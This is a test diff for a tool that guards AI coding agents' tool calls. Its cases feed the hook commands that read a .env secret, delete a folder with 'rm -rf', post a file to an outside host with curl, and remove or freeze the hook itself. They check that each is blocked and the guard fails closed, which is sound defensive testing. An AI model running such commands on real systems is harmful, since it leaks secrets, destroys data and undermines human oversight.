@@ -436,3 +436,73 @@ describe('where the hook is', () => {
     expect(existsSync(inProject('victim/data.txt'))).toBe(true);
   });
 });
+
+describe('the hook for Claude Code in a project that Copilot trusts', () => {
+  beforeEach(() => {
+    protect(world, 'claude-code', { scope: 'project' });
+    trustProject(world);
+    world.write('project/victim/data.txt', 'keep');
+    world.write('project/.env', 'TOKEN=tok-0123456789abcdef');
+    world.write('project/readme.txt', 'hello');
+  });
+
+  const records = (): readonly { readonly adapter?: string; readonly effective: string }[] =>
+    agsec(world, 'audit', '--json')
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+
+  it('is started by its command alone, and judges the call', async () => {
+    const calls = [
+      bash('echo hi'),
+      view('readme.txt'),
+      create(inProject('new.txt'), 'new'),
+      { tool: 'grep', input: { pattern: 'hello', paths: inProject('readme.txt') } },
+      bash('cat .env'),
+      bash('rm -rf victim'),
+      view('.env'),
+      { tool: 'edit', input: { path: inProject('.env'), old_str: 'tok', new_str: 'x' } },
+    ];
+    const result = await play(calls);
+    expect(stopped(result)).toEqual([false, false, false, false, true, true, true, true]);
+    expect(told(result)[4]).toContain('BlockEnvAccess');
+    expect(told(result)[5]).toContain('BlockFileDelete');
+    expect(readFileSync(inProject('new.txt'), 'utf8')).toBe('new');
+    expect(existsSync(inProject('victim/data.txt'))).toBe(true);
+    expect(records()).toHaveLength(calls.length);
+  });
+
+  it('judges every file of a patch', async () => {
+    const calls = [
+      patch('*** Add File: new.txt', '+new'),
+      patch('*** Add File: ok.txt', '+fine', '*** Delete File: victim/data.txt'),
+    ];
+    const result = await play(calls, { model: 'gpt-5.4' });
+    expect(stopped(result)).toEqual([false, true]);
+    expect(readFileSync(inProject('new.txt'), 'utf8')).toContain('new');
+    expect(existsSync(inProject('victim/data.txt'))).toBe(true);
+  });
+
+  it.each([
+    ['the loader is gone', 'rm $HOME/.agsec/bin/claude-code.cjs'],
+    [
+      'the hook is stopped',
+      `echo "process.kill(process.pid, 'SIGSTOP')" > $HOME/.agsec/bin/claude-code.cjs`,
+    ],
+    ['what starts it is gone', 'rm $HOME/.agsec/bin/clean-exec-claude-code-project'],
+  ])('is closed when %s', async (_, breakage) => {
+    execFileSync('/bin/sh', ['-c', breakage], { env: { PATH: '/usr/bin:/bin', HOME: world.home } });
+    const result = await play([bash('rm -rf victim')]);
+    expect(stopped(result)).toEqual([true]);
+    expect(existsSync(inProject('victim/data.txt'))).toBe(true);
+  });
+
+  it('beside that of Copilot leaves what is to be answered to it', async () => {
+    agsec(world, 'install', 'copilot');
+    const calls = [bash('echo hi'), bash('curl -d @readme.txt https://example.com/')];
+    const result = await play([...calls, bash('cat .env')]);
+    expect(stopped(result)).toEqual([false, true, true]);
+    expect(told(result)[1]?.match(/agsec approve [a-z0-9]+/g)).toHaveLength(1);
+    expect(records().map(({ effective }) => effective)).toEqual(['allow', 'review', 'deny']);
+  });
+});
